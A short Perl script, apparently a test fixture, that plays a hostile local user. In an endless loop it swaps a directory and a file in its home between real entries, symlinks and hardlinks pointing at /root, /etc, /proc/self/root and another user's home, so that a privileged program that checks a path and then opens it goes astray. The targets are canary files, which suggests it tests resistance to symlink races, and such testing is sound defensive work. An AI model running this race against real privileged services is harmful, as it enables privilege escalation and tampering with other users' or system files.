# Two places in a home that are now the owner's, now a way out of it, and change all the while: whoever looks
# and then opens by name goes astray. Runs as the account's user, until somebody ends it.
use strict;
use Time::HiRes 'usleep';
chdir '/home/hostile/hostile/race' or die;
my @ways = ('/etc/ferry-canary', '/root/canary', '/home/neighbour', '/proc/self/root/root/canary');
my ($n, $pause) = (0, 150);
mkdir 'place';
sub own { open(my $file, '>', $_[0]) or return; print $file "mine\n"; close $file }
while (1) {
    my $way = $ways[$n++ % @ways];
    rename 'aside', 'place' if !-e 'place' && -d 'aside';
    own('place/secret');
    symlink $way, 'link';
    rename 'place', 'aside';
    rename 'link', 'place';
    unlink 'file';
    symlink "$way/secret", 'file';
    usleep $pause;
    unlink 'place';
    rename 'aside', 'place';
    unlink 'file';
    own('file');
    link 'file', 'other';
    usleep $pause;
    unlink 'other';
}
